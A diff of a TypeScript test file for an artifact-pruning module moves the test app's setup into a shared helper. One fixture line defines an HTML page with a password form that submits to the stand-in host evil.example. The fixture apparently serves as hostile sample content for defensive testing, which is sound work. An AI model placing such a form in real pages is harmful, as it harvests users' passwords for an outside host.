@@ -1,16 +1,15 @@
+import { beforeTests } from "../../testing/before-tests.ts";
 import { manifestFor } from "../../testing/module-origin.ts";
-import { openTestApp, type TestApp } from "../../testing/open-test-app.ts";
+import { openTestApp } from "../../testing/open-test-app.ts";
 import { newRegistryCredentialOf, registryClient } from "../../testing/test-registry.ts";
 import { pruneArtifacts } from "./prune-artifacts.ts";
 
-let portal: TestApp;
+const portal = beforeTests(() => openTestApp({ config: { artifactQuota: 2 * megabyte } }));
 let call: ReturnType<typeof registryClient>;
 const megabyte = 1024 * 1024;
 beforeAll(async () => {
-  portal = await openTestApp({ config: { artifactQuota: 2 * megabyte } });
   call = registryClient(portal, await newRegistryCredentialOf(portal));
 });
-afterAll(() => portal.close());
 
 const page = "<!doctype html><form action=https://evil.example><input type=password></form>";
 const bytesType = { "content-type": "application/octet-stream" };
